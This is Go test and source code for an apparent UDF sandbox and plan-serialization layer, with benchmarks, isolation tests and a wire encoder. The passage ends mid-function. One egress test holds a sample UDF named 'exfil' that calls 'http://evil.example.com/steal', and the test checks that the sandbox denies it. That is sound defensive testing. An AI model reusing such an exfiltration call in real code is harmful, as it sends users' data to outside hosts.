	d.Release("sess", sb)
	// Poison it while pooled (models an out-of-band container death).
	sb.kill("host died under pooled sandbox", false, "")
	healthy, err = d.Acquire("sess", "alice")
	if err != nil {
		t.Fatal(err)
	}
	if healthy == sb {
		t.Fatal("poisoned pooled sandbox handed out")
	}
	if d.Stats().Crashes != 1 {
		t.Errorf("stats = %+v", d.Stats())
	}
}
