package sandbox

import (
	"context"
	"testing"

	"lakeguard/internal/types"
)

// BenchmarkCrossing measures one isolation-boundary round trip: encode the
// argument batch, hand it to the sandbox goroutine, interpret, encode
// results, decode — the continuous overhead Table 2 quantifies at the query
// level.
func BenchmarkCrossing(b *testing.B) {
	for _, rows := range []int{64, 1024, 8192} {
		b.Run(sizeName(rows), func(b *testing.B) {
			sb := New("bench", Config{})
			defer sb.Close()
			req := &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(rows)}
			if _, err := sb.Execute(context.Background(), req); err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := sb.Execute(context.Background(), req); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(rows*b.N)/b.Elapsed().Seconds(), "rows/s")
		})
	}
}

// BenchmarkFusedVsSeparate compares one 4-UDF crossing to four 1-UDF
// crossings over the same batch (the fusion win at the sandbox level).
func BenchmarkFusedVsSeparate(b *testing.B) {
	mkSpec := func(name string) UDFSpec {
		return UDFSpec{Name: name, Body: "return a + b", ArgNames: []string{"a", "b"},
			ArgCols: []int{0, 1}, ResultKind: types.KindInt64}
	}
	args := argBatch(4096)
	b.Run("Fused4", func(b *testing.B) {
		sb := New("bench", Config{})
		defer sb.Close()
		req := &Request{Specs: []UDFSpec{mkSpec("a"), mkSpec("b"), mkSpec("c"), mkSpec("d")}, Args: args}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := sb.Execute(context.Background(), req); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("Separate4", func(b *testing.B) {
		sb := New("bench", Config{})
		defer sb.Close()
		reqs := []*Request{
			{Specs: []UDFSpec{mkSpec("a")}, Args: args},
			{Specs: []UDFSpec{mkSpec("b")}, Args: args},
			{Specs: []UDFSpec{mkSpec("c")}, Args: args},
			{Specs: []UDFSpec{mkSpec("d")}, Args: args},
		}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			for _, req := range reqs {
				if _, err := sb.Execute(context.Background(), req); err != nil {
					b.Fatal(err)
				}
			}
		}
	})
}

func sizeName(n int) string {
	switch {
	case n >= 1024:
		return itoa(n/1024) + "Ki"
	default:
		return itoa(n)
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf [8]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	return string(buf[i:])
}
