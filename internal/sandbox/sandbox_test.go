package sandbox

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"lakeguard/internal/types"
)

func argBatch(n int) *types.Batch {
	schema := types.NewSchema(
		types.Field{Name: "a", Kind: types.KindInt64},
		types.Field{Name: "b", Kind: types.KindInt64},
	)
	bb := types.NewBatchBuilder(schema, n)
	for i := 0; i < n; i++ {
		bb.AppendRow([]types.Value{types.Int64(int64(i)), types.Int64(int64(i * 10))})
	}
	return bb.Build()
}

func sumSpec() UDFSpec {
	return UDFSpec{
		Name: "add", Body: "return a + b",
		ArgNames: []string{"a", "b"}, ArgCols: []int{0, 1},
		ResultKind: types.KindInt64,
	}
}

func TestExecuteSimpleUDF(t *testing.T) {
	sb := New("alice", Config{})
	defer sb.Close()
	out, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(100)})
	if err != nil {
		t.Fatal(err)
	}
	if out.NumRows() != 100 || out.NumCols() != 1 {
		t.Fatalf("shape %dx%d", out.NumRows(), out.NumCols())
	}
	for i := 0; i < 100; i++ {
		if got := out.Cols[0].Int64(i); got != int64(i+i*10) {
			t.Fatalf("row %d = %d", i, got)
		}
	}
	if sb.Crossings() != 1 {
		t.Errorf("crossings = %d", sb.Crossings())
	}
	if sb.RowsProcessed() != 100 {
		t.Errorf("rows = %d", sb.RowsProcessed())
	}
}

func TestFusedUDFsOneCrossing(t *testing.T) {
	sb := New("alice", Config{})
	defer sb.Close()
	specs := []UDFSpec{
		sumSpec(),
		{Name: "diff", Body: "return b - a", ArgNames: []string{"a", "b"}, ArgCols: []int{0, 1}, ResultKind: types.KindInt64},
		{Name: "hexa", Body: "return sha256(str(a))", ArgNames: []string{"a"}, ArgCols: []int{0}, ResultKind: types.KindString},
	}
	out, err := sb.Execute(context.Background(), &Request{Specs: specs, Args: argBatch(10)})
	if err != nil {
		t.Fatal(err)
	}
	if out.NumCols() != 3 {
		t.Fatalf("cols = %d", out.NumCols())
	}
	if sb.Crossings() != 1 {
		t.Errorf("fused execution should be one crossing, got %d", sb.Crossings())
	}
	if out.Cols[1].Int64(5) != 45 {
		t.Errorf("diff wrong: %d", out.Cols[1].Int64(5))
	}
	if len(out.Cols[2].StringAt(0)) != 64 {
		t.Error("sha256 result length wrong")
	}
}

func TestRequireVerifiedPlans(t *testing.T) {
	sb := New("alice", Config{RequireVerifiedPlans: true})
	defer sb.Close()
	_, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(5)})
	if !errors.Is(err, ErrUnverifiedPlan) {
		t.Fatalf("unverified crossing should be refused, got %v", err)
	}
	// The refusal happens before the boundary: the sandbox stays healthy and
	// serves a fingerprinted crossing.
	out, err := sb.Execute(context.Background(), &Request{
		Specs: []UDFSpec{sumSpec()}, Args: argBatch(5), PlanFingerprint: "plan-f00d",
	})
	if err != nil {
		t.Fatalf("verified crossing failed: %v", err)
	}
	if out.NumRows() != 5 {
		t.Fatalf("rows = %d", out.NumRows())
	}
	if sb.Poisoned() {
		t.Error("refusal must not poison the sandbox")
	}
}

func TestUserCodeErrorSurfaced(t *testing.T) {
	sb := New("alice", Config{})
	defer sb.Close()
	spec := UDFSpec{Name: "boom", Body: "return 1 / 0", ArgNames: nil, ArgCols: nil, ResultKind: types.KindFloat64}
	_, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{spec}, Args: argBatch(1)})
	if err == nil || !strings.Contains(err.Error(), "division by zero") {
		t.Fatalf("err = %v", err)
	}
	// Sandbox survives the failure and serves the next request.
	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); err != nil {
		t.Fatalf("sandbox dead after user error: %v", err)
	}
}

func TestCompileErrorSurfaced(t *testing.T) {
	sb := New("alice", Config{})
	defer sb.Close()
	spec := UDFSpec{Name: "bad", Body: "retrn x", ArgNames: nil, ArgCols: nil, ResultKind: types.KindInt64}
	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{spec}, Args: argBatch(1)}); err == nil {
		t.Fatal("expected compile error")
	}
}

func TestFuelLimitEnforced(t *testing.T) {
	sb := New("alice", Config{Fuel: 5_000})
	defer sb.Close()
	spec := UDFSpec{Name: "spin", Body: "while True:\n    x = 1", ResultKind: types.KindInt64}
	_, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{spec}, Args: argBatch(1)})
	if err == nil || !strings.Contains(err.Error(), "budget") {
		t.Fatalf("err = %v", err)
	}
}

func TestColdStartDelay(t *testing.T) {
	start := time.Now()
	sb := New("alice", Config{ColdStart: 50 * time.Millisecond})
	defer sb.Close()
	if d := time.Since(start); d < 50*time.Millisecond {
		t.Errorf("cold start took %v, want >= 50ms", d)
	}
	// Warm execution does not pay it again.
	start = time.Now()
	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); err != nil {
		t.Fatal(err)
	}
	if d := time.Since(start); d > 25*time.Millisecond {
		t.Errorf("warm execution took %v", d)
	}
}

func TestEgressPolicy(t *testing.T) {
	network := func(url string) (string, error) { return "pong:" + url, nil }
	spec := UDFSpec{
		Name: "call", Body: "return http_get('http://api.allowed.com/x')",
		ResultKind: types.KindString,
	}
	denied := UDFSpec{
		Name: "exfil", Body: "return http_get('http://evil.example.com/steal')",
		ResultKind: types.KindString,
	}

	// No egress configured at all: everything fails closed.
	sb0 := New("alice", Config{})
	defer sb0.Close()
	if _, err := sb0.Execute(context.Background(), &Request{Specs: []UDFSpec{spec}, Args: argBatch(1)}); err == nil {
		t.Error("egress without policy should fail")
	}

	// Allow-listed host works; others are denied.
	sb := New("alice", Config{Egress: EgressPolicy{AllowedHosts: []string{"api.allowed.com"}, Resolver: network}})
	defer sb.Close()
	out, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{spec}, Args: argBatch(1)})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(out.Cols[0].StringAt(0), "pong:") {
		t.Errorf("egress result = %q", out.Cols[0].StringAt(0))
	}
	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{denied}, Args: argBatch(1)}); err == nil || !strings.Contains(err.Error(), "denied") {
		t.Errorf("err = %v", err)
	}

	// Wildcard allows all.
	sbAll := New("alice", Config{Egress: EgressPolicy{AllowedHosts: []string{"*"}, Resolver: network}})
	defer sbAll.Close()
	if _, err := sbAll.Execute(context.Background(), &Request{Specs: []UDFSpec{denied}, Args: argBatch(1)}); err != nil {
		t.Errorf("wildcard egress: %v", err)
	}
}

func TestClosedSandbox(t *testing.T) {
	sb := New("alice", Config{})
	sb.Close()
	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); !errors.Is(err, ErrSandboxClosed) {
		t.Errorf("err = %v", err)
	}
	sb.Close() // double close fine
}

func TestBadSpecRejectedBeforeCrossing(t *testing.T) {
	sb := New("alice", Config{})
	defer sb.Close()
	spec := sumSpec()
	spec.ArgCols = []int{0, 99}
	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{spec}, Args: argBatch(1)}); err == nil {
		t.Error("expected column-range error")
	}
	spec2 := sumSpec()
	spec2.ArgCols = []int{0}
	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{spec2}, Args: argBatch(1)}); err == nil {
		t.Error("expected arity error")
	}
	if sb.Crossings() != 0 {
		t.Error("invalid requests must not cross the boundary")
	}
}

func TestNullArgumentsAndResults(t *testing.T) {
	schema := types.NewSchema(types.Field{Name: "x", Kind: types.KindString, Nullable: true})
	bb := types.NewBatchBuilder(schema, 2)
	bb.AppendRow([]types.Value{types.String("v")})
	bb.AppendRow([]types.Value{types.Null(types.KindString)})
	spec := UDFSpec{
		Name: "passthrough", Body: "return None if is_null(x) else upper(x)",
		ArgNames: []string{"x"}, ArgCols: []int{0}, ResultKind: types.KindString,
	}
	sb := New("alice", Config{})
	defer sb.Close()
	out, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{spec}, Args: bb.Build()})
	if err != nil {
		t.Fatal(err)
	}
	if out.Cols[0].StringAt(0) != "V" || !out.Cols[0].IsNull(1) {
		t.Error("null round trip wrong")
	}
}

func TestDispatcherReuseAndTrustDomains(t *testing.T) {
	var created []string
	factory := FactoryFunc(func(ctx context.Context, domain string) (*Sandbox, error) {
		created = append(created, domain)
		return New(domain, Config{}), nil
	})
	d := NewDispatcher(factory)

	sb1, err := d.Acquire("sess1", "alice")
	if err != nil {
		t.Fatal(err)
	}
	d.Release("sess1", sb1)
	sb2, err := d.Acquire("sess1", "alice")
	if err != nil {
		t.Fatal(err)
	}
	if sb1 != sb2 {
		t.Error("warm sandbox not reused")
	}
	// Different trust domain: new sandbox.
	sb3, _ := d.Acquire("sess1", "bob")
	if sb3 == sb1 {
		t.Error("trust domains shared a sandbox")
	}
	if sb3.TrustDomain != "bob" {
		t.Error("wrong trust domain")
	}
	// Different session: new sandbox even for same domain.
	sb4, _ := d.Acquire("sess2", "alice")
	if sb4 == sb1 {
		t.Error("sessions shared a sandbox")
	}
	st := d.Stats()
	if st.ColdStarts != 3 || st.Reuses != 1 {
		t.Errorf("stats = %+v", st)
	}
	if len(created) != 3 {
		t.Errorf("created = %v", created)
	}
}

func TestDispatcherEndSession(t *testing.T) {
	d := NewDispatcher(FactoryFunc(func(ctx context.Context, domain string) (*Sandbox, error) {
		return New(domain, Config{}), nil
	}))
	sb, _ := d.Acquire("sess1", "alice")
	d.Release("sess1", sb)
	d.EndSession("sess1")
	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); !errors.Is(err, ErrSandboxClosed) {
		t.Errorf("sandbox should be closed after EndSession: %v", err)
	}
	// A fresh acquire provisions again.
	sb2, err := d.Acquire("sess1", "alice")
	if err != nil {
		t.Fatal(err)
	}
	if sb2 == sb {
		t.Error("closed sandbox returned")
	}
	if d.Stats().ColdStarts != 2 {
		t.Errorf("stats = %+v", d.Stats())
	}
	// EndSession must not tear down other sessions ("sess1" vs "sess10").
	sbA, _ := d.Acquire("sess10", "alice")
	d.Release("sess10", sbA)
	d.EndSession("sess1")
	sbB, _ := d.Acquire("sess10", "alice")
	if sbA != sbB {
		t.Error("EndSession closed an unrelated session's sandbox")
	}
}

func TestConcurrentExecutions(t *testing.T) {
	sb := New("alice", Config{})
	defer sb.Close()
	var wg sync.WaitGroup
	errs := make([]error, 8)
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			out, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(50)})
			if err != nil {
				errs[i] = err
				return
			}
			if out.Cols[0].Int64(49) != 49+490 {
				errs[i] = errors.New("wrong result")
			}
		}(i)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
	if sb.Crossings() != 8 {
		t.Errorf("crossings = %d", sb.Crossings())
	}
}
