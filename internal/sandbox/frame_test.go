package sandbox

import (
	"errors"
	"strings"
	"testing"
)

// The request frame crosses a trust boundary: the decoder must reject
// truncated, oversized, and corrupt frames without panicking — a hostile or
// bit-flipped frame burns the request, never the interpreter.
func TestDecodeRequestRejectsCorruptFrames(t *testing.T) {
	valid, err := encodeRequest(&Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(3)})
	if err != nil {
		t.Fatal(err)
	}
	cases := map[string][]byte{
		"empty":          nil,
		"truncated len":  {0x01, 0x02},
		"header overrun": {0xff, 0xff, 0x00, 0x00, 'x'},
		// 0x80000000 decodes to a negative int32-style length.
		"negative length":  {0x00, 0x00, 0x00, 0x80, 'x', 'y'},
		"oversized header": {0x01, 0x00, 0x20, 0x00}, // 2MiB > maxRequestHeader
		"garbage json":     append([]byte{0x03, 0x00, 0x00, 0x00}, []byte("{{{rest")...),
		"body truncated":   valid[:len(valid)-20],
	}
	for name, frame := range cases {
		if _, _, err := decodeRequest(frame); err == nil {
			t.Errorf("%s: corrupt frame accepted", name)
		}
	}
	// Sanity: the valid frame still round-trips.
	specs, batch, err := decodeRequest(valid)
	if err != nil || len(specs) != 1 || batch.NumRows() != 3 {
		t.Fatalf("valid frame rejected: %v", err)
	}
}

func TestEncodeRequestRejectsOversizedHeader(t *testing.T) {
	spec := sumSpec()
	spec.Body = strings.Repeat("x", maxRequestHeader+1)
	_, err := encodeRequest(&Request{Specs: []UDFSpec{spec}, Args: argBatch(1)})
	if err == nil || !strings.Contains(err.Error(), "exceeds limit") {
		t.Fatalf("err = %v", err)
	}
}

// A corrupt frame handed to the interpreter surfaces as a request error, and
// the sandbox keeps serving.
func TestInterpreterSurvivesCorruptFrame(t *testing.T) {
	sb := New("alice", Config{})
	defer sb.Close()
	// Drive the raw channel like Execute would, with a corrupt payload.
	sb.execMu.Lock()
	sb.reqCh <- []byte{0xff, 0xff, 0xff, 0x7f}
	resp := <-sb.respCh
	sb.execMu.Unlock()
	if resp.err == "" || resp.crashed {
		t.Fatalf("resp = %+v, want clean request error", resp)
	}
	if _, err := sb.Execute(nil, &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(2)}); err != nil {
		t.Fatalf("sandbox dead after corrupt frame: %v", err)
	}
}

// Concurrent Execute calls serialize on the single IPC pipe; interleaved
// requests must neither corrupt results nor trip the race detector.
func TestConcurrentExecuteSerializedOnPipe(t *testing.T) {
	sb := New("alice", Config{})
	defer sb.Close()
	done := make(chan error, 16)
	for i := 0; i < 16; i++ {
		go func() {
			out, err := sb.Execute(nil, &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(20)})
			if err == nil && out.Cols[0].Int64(19) != 19+190 {
				err = errTestWrongResult
			}
			done <- err
		}()
	}
	for i := 0; i < 16; i++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
	if sb.Crossings() != 16 {
		t.Errorf("crossings = %d, want 16 serialized crossings", sb.Crossings())
	}
}

var errTestWrongResult = errors.New("wrong result")
