package proto

import (
	"fmt"

	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

// Expression type tags.
const (
	exTagLiteral     = 1
	exTagColumn      = 2
	exTagStar        = 3
	exTagAlias       = 4
	exTagBinary      = 5
	exTagUnary       = 6
	exTagIsNull      = 7
	exTagInList      = 8
	exTagLike        = 9
	exTagCase        = 10
	exTagCast        = 11
	exTagFunc        = 12
	exTagCurrentUser = 13
	exTagGroupMember = 14
	exTagExtension   = 15
)

// ExtensionExpr is an unknown expression preserved verbatim.
type ExtensionExpr struct {
	TypeURL string
	Payload []byte
}

// Type implements plan.Expr.
func (x *ExtensionExpr) Type() types.Kind { return types.KindNull }

// String implements plan.Expr.
func (x *ExtensionExpr) String() string { return "ExtensionExpr " + x.TypeURL }

// ChildExprs implements plan.Expr.
func (x *ExtensionExpr) ChildExprs() []plan.Expr { return nil }

// WithChildExprs implements plan.Expr.
func (x *ExtensionExpr) WithChildExprs([]plan.Expr) plan.Expr { return x }

// EncodeExpr serializes an unresolved expression.
func EncodeExpr(e plan.Expr) ([]byte, error) {
	var enc encoder
	if err := encodeExpr(&enc, e); err != nil {
		return nil, err
	}
	return enc.buf, nil
}

// DecodeExpr reverses EncodeExpr.
func DecodeExpr(data []byte) (plan.Expr, error) {
	return decodeExprField(data)
}

func encodeExprField(e *encoder, field int, ex plan.Expr) error {
	var sub encoder
	if err := encodeExpr(&sub, ex); err != nil {
		return err
	}
	e.Bytes(field, sub.buf)
	return nil
}

func encodeExpr(e *encoder, ex plan.Expr) error {
	var tag int
	var body encoder
	switch t := ex.(type) {
	case *plan.Literal:
		tag = exTagLiteral
		encodeValue(&body, 1, t.Value)
	case *plan.ColumnRef:
		tag = exTagColumn
		body.String(1, t.Qualifier)
		body.StringAlways(2, t.Name)
	case *plan.Star:
		tag = exTagStar
		body.String(1, t.Qualifier)
	case *plan.Alias:
		tag = exTagAlias
		if err := encodeExprField(&body, 1, t.Child); err != nil {
			return err
		}
		body.StringAlways(2, t.Name)
	case *plan.Binary:
		tag = exTagBinary
		body.Varint(1, uint64(t.Op))
		if err := encodeExprField(&body, 2, t.L); err != nil {
			return err
		}
		if err := encodeExprField(&body, 3, t.R); err != nil {
			return err
		}
	case *plan.Unary:
		tag = exTagUnary
		body.Varint(1, uint64(t.Op))
		if err := encodeExprField(&body, 2, t.Child); err != nil {
			return err
		}
	case *plan.IsNull:
		tag = exTagIsNull
		if err := encodeExprField(&body, 1, t.Child); err != nil {
			return err
		}
		body.Bool(2, t.Negated)
	case *plan.InList:
		tag = exTagInList
		if err := encodeExprField(&body, 1, t.Child); err != nil {
			return err
		}
		for _, item := range t.List {
			if err := encodeExprField(&body, 2, item); err != nil {
				return err
			}
		}
		body.Bool(3, t.Negated)
	case *plan.Like:
		tag = exTagLike
		if err := encodeExprField(&body, 1, t.Child); err != nil {
			return err
		}
		if err := encodeExprField(&body, 2, t.Pattern); err != nil {
			return err
		}
		body.Bool(3, t.Negated)
	case *plan.Case:
		tag = exTagCase
		for _, w := range t.Whens {
			var sub encoder
			if err := encodeExprField(&sub, 1, w.Cond); err != nil {
				return err
			}
			if err := encodeExprField(&sub, 2, w.Then); err != nil {
				return err
			}
			body.Bytes(1, sub.buf)
		}
		if t.Else != nil {
			if err := encodeExprField(&body, 2, t.Else); err != nil {
				return err
			}
		}
	case *plan.Cast:
		tag = exTagCast
		if err := encodeExprField(&body, 1, t.Child); err != nil {
			return err
		}
		body.Varint(2, uint64(t.To))
	case *plan.FuncCall:
		tag = exTagFunc
		body.StringAlways(1, t.Name)
		for _, a := range t.Args {
			if err := encodeExprField(&body, 2, a); err != nil {
				return err
			}
		}
		body.Bool(3, t.Distinct)
	case *plan.CurrentUser:
		tag = exTagCurrentUser
	case *plan.GroupMember:
		tag = exTagGroupMember
		body.StringAlways(1, t.Group)
	case *ExtensionExpr:
		tag = exTagExtension
		body.StringAlways(1, t.TypeURL)
		body.Bytes(2, t.Payload)
	default:
		return fmt.Errorf("proto: expression %T is not wire-encodable (unresolved expressions only)", ex)
	}
	e.Varint(1, uint64(tag))
	e.Bytes(2, body.buf)
	return nil
}

func encodeValue(e *encoder, field int, v types.Value) {
	e.Msg(field, func(sub *encoder) {
		sub.Varint(1, uint64(v.Kind))
		sub.Bool(2, v.Null)
		if v.I != 0 {
			sub.Int(3, v.I)
		}
		if v.F != 0 {
			sub.Float(4, v.F)
		}
		sub.String(5, v.S)
	})
}

func decodeValue(b []byte) (types.Value, error) {
	d := &decoder{buf: b}
	var v types.Value
	for !d.done() {
		f, wire, err := d.field()
		if err != nil {
			return v, err
		}
		switch f {
		case 1:
			u, err := d.varint()
			if err != nil {
				return v, err
			}
			v.Kind = types.Kind(u)
		case 2:
			u, err := d.varint()
			if err != nil {
				return v, err
			}
			v.Null = u == 1
		case 3:
			i, err := d.zigzag()
			if err != nil {
				return v, err
			}
			v.I = i
		case 4:
			u, err := d.varint()
			if err != nil {
				return v, err
			}
			v.F = floatFromBits(u)
		case 5:
			b, err := d.bytes()
			if err != nil {
				return v, err
			}
			v.S = string(b)
		default:
			if err := d.skip(wire); err != nil {
				return v, err
			}
		}
	}
	return v, nil
}

func decodeExprField(b []byte) (plan.Expr, error) {
	d := &decoder{buf: b}
	var tag uint64
	var body []byte
	for !d.done() {
		f, wire, err := d.field()
		if err != nil {
			return nil, err
		}
		switch f {
		case 1:
			tag, err = d.varint()
		case 2:
			body, err = d.bytes()
		default:
			err = d.skip(wire)
		}
		if err != nil {
			return nil, err
		}
	}
	return decodeExprBody(int(tag), &decoder{buf: body})
}

// exprFields is a tiny helper to iterate fields and collect the common
// shapes (sub-expressions, strings, varints) by field number.
type exprFields struct {
	exprs   map[int][]plan.Expr
	strs    map[int]string
	ints    map[int]uint64
	rawMsgs map[int][][]byte
}

func collectFields(d *decoder) (*exprFields, error) {
	out := &exprFields{
		exprs: map[int][]plan.Expr{}, strs: map[int]string{},
		ints: map[int]uint64{}, rawMsgs: map[int][][]byte{},
	}
	for !d.done() {
		f, wire, err := d.field()
		if err != nil {
			return nil, err
		}
		switch wire {
		case wireBytes:
			b, err := d.bytes()
			if err != nil {
				return nil, err
			}
			out.rawMsgs[f] = append(out.rawMsgs[f], b)
		case wireVarint:
			v, err := d.varint()
			if err != nil {
				return nil, err
			}
			out.ints[f] = v
		default:
			if err := d.skip(wire); err != nil {
				return nil, err
			}
		}
	}
	return out, nil
}

func (ef *exprFields) expr(f int) (plan.Expr, error) {
	msgs := ef.rawMsgs[f]
	if len(msgs) == 0 {
		return nil, nil
	}
	return decodeExprField(msgs[0])
}

func (ef *exprFields) exprList(f int) ([]plan.Expr, error) {
	var out []plan.Expr
	for _, m := range ef.rawMsgs[f] {
		e, err := decodeExprField(m)
		if err != nil {
			return nil, err
		}
		out = append(out, e)
	}
	return out, nil
}

func (ef *exprFields) str(f int) string {
	msgs := ef.rawMsgs[f]
	if len(msgs) == 0 {
		return ""
	}
	return string(msgs[0])
}

func decodeExprBody(tag int, d *decoder) (plan.Expr, error) {
	ef, err := collectFields(d)
	if err != nil {
		return nil, err
	}
	switch tag {
	case exTagLiteral:
		if len(ef.rawMsgs[1]) == 0 {
			return nil, fmt.Errorf("proto: literal missing value")
		}
		v, err := decodeValue(ef.rawMsgs[1][0])
		if err != nil {
			return nil, err
		}
		return plan.Lit(v), nil
	case exTagColumn:
		return &plan.ColumnRef{Qualifier: ef.str(1), Name: ef.str(2)}, nil
	case exTagStar:
		return &plan.Star{Qualifier: ef.str(1)}, nil
	case exTagAlias:
		child, err := ef.expr(1)
		if err != nil {
			return nil, err
		}
		return &plan.Alias{Child: child, Name: ef.str(2)}, nil
	case exTagBinary:
		l, err := ef.expr(2)
		if err != nil {
			return nil, err
		}
		r, err := ef.expr(3)
		if err != nil {
			return nil, err
		}
		return &plan.Binary{Op: plan.BinOp(ef.ints[1]), L: l, R: r}, nil
	case exTagUnary:
		child, err := ef.expr(2)
		if err != nil {
			return nil, err
		}
		return &plan.Unary{Op: plan.UnaryOp(ef.ints[1]), Child: child}, nil
	case exTagIsNull:
		child, err := ef.expr(1)
		if err != nil {
			return nil, err
		}
		return &plan.IsNull{Child: child, Negated: ef.ints[2] == 1}, nil
	case exTagInList:
		child, err := ef.expr(1)
		if err != nil {
			return nil, err
		}
		list, err := ef.exprList(2)
		if err != nil {
			return nil, err
		}
		return &plan.InList{Child: child, List: list, Negated: ef.ints[3] == 1}, nil
	case exTagLike:
		child, err := ef.expr(1)
		if err != nil {
			return nil, err
		}
		pat, err := ef.expr(2)
		if err != nil {
			return nil, err
		}
		return &plan.Like{Child: child, Pattern: pat, Negated: ef.ints[3] == 1}, nil
	case exTagCase:
		out := &plan.Case{}
		for _, wb := range ef.rawMsgs[1] {
			wf, err := collectFields(&decoder{buf: wb})
			if err != nil {
				return nil, err
			}
			cond, err := wf.expr(1)
			if err != nil {
				return nil, err
			}
			then, err := wf.expr(2)
			if err != nil {
				return nil, err
			}
			out.Whens = append(out.Whens, plan.WhenClause{Cond: cond, Then: then})
		}
		els, err := ef.expr(2)
		if err != nil {
			return nil, err
		}
		out.Else = els
		return out, nil
	case exTagCast:
		child, err := ef.expr(1)
		if err != nil {
			return nil, err
		}
		return &plan.Cast{Child: child, To: types.Kind(ef.ints[2])}, nil
	case exTagFunc:
		args, err := ef.exprList(2)
		if err != nil {
			return nil, err
		}
		return &plan.FuncCall{Name: ef.str(1), Args: args, Distinct: ef.ints[3] == 1}, nil
	case exTagCurrentUser:
		return &plan.CurrentUser{}, nil
	case exTagGroupMember:
		return &plan.GroupMember{Group: ef.str(1)}, nil
	case exTagExtension:
		return &ExtensionExpr{TypeURL: ef.str(1), Payload: append([]byte{}, []byte(ef.str(2))...)}, nil
	}
	return nil, fmt.Errorf("proto: unknown expression type %d (newer client?)", tag)
}
