// Package proto implements the Connect protocol's plan serialization: a
// hand-rolled Protocol-Buffers-style wire format (varint tags,
// length-delimited submessages) for unresolved logical plans, expressions,
// and commands. The properties the paper's versionless-client story relies
// on are reproduced faithfully:
//
//   - unknown fields are skipped, so old servers tolerate new clients and
//     vice versa (forward/backward compatibility);
//   - messages are language-agnostic byte strings;
//   - relations, expressions, and commands each carry an extension variant
//     (type URL + opaque payload) so plugins can embed custom types without
//     modifying the protocol.
package proto

import (
	"errors"
	"fmt"
	"math"
)

// Wire types (protobuf-compatible subset).
const (
	wireVarint = 0
	wireBytes  = 2
)

// ErrTruncated reports malformed input.
var ErrTruncated = errors.New("proto: truncated message")

// encoder appends protobuf-style fields to a buffer.
type encoder struct {
	buf []byte
}

func (e *encoder) tag(field, wire int) {
	e.uvarint(uint64(field)<<3 | uint64(wire))
}

func (e *encoder) uvarint(v uint64) {
	for v >= 0x80 {
		e.buf = append(e.buf, byte(v)|0x80)
		v >>= 7
	}
	e.buf = append(e.buf, byte(v))
}

// Varint writes an unsigned varint field.
func (e *encoder) Varint(field int, v uint64) {
	e.tag(field, wireVarint)
	e.uvarint(v)
}

// Int writes a signed value with zigzag encoding.
func (e *encoder) Int(field int, v int64) {
	e.Varint(field, uint64((v<<1)^(v>>63)))
}

// Bool writes a boolean field (omitted when false).
func (e *encoder) Bool(field int, v bool) {
	if v {
		e.Varint(field, 1)
	}
}

// Float writes a float64 as its IEEE bits.
func (e *encoder) Float(field int, v float64) {
	e.Varint(field, math.Float64bits(v))
}

// Bytes writes a length-delimited field.
func (e *encoder) Bytes(field int, b []byte) {
	e.tag(field, wireBytes)
	e.uvarint(uint64(len(b)))
	e.buf = append(e.buf, b...)
}

// String writes a string field (omitted when empty).
func (e *encoder) String(field int, s string) {
	if s != "" {
		e.Bytes(field, []byte(s))
	}
}

// StringAlways writes a string field even when empty.
func (e *encoder) StringAlways(field int, s string) {
	e.Bytes(field, []byte(s))
}

// Msg writes a nested message built by fn.
func (e *encoder) Msg(field int, fn func(*encoder)) {
	var sub encoder
	fn(&sub)
	e.Bytes(field, sub.buf)
}

// decoder iterates protobuf-style fields.
type decoder struct {
	buf []byte
	pos int
}

func (d *decoder) done() bool { return d.pos >= len(d.buf) }

func (d *decoder) uvarint() (uint64, error) {
	var v uint64
	var shift uint
	for {
		if d.pos >= len(d.buf) {
			return 0, ErrTruncated
		}
		b := d.buf[d.pos]
		d.pos++
		v |= uint64(b&0x7f) << shift
		if b < 0x80 {
			return v, nil
		}
		shift += 7
		if shift >= 64 {
			return 0, errors.New("proto: varint overflow")
		}
	}
}

// field reads the next tag, returning field number and wire type.
func (d *decoder) field() (int, int, error) {
	t, err := d.uvarint()
	if err != nil {
		return 0, 0, err
	}
	return int(t >> 3), int(t & 7), nil
}

func (d *decoder) varint() (uint64, error) { return d.uvarint() }

func (d *decoder) zigzag() (int64, error) {
	v, err := d.uvarint()
	if err != nil {
		return 0, err
	}
	return int64(v>>1) ^ -int64(v&1), nil
}

func (d *decoder) bytes() ([]byte, error) {
	n, err := d.uvarint()
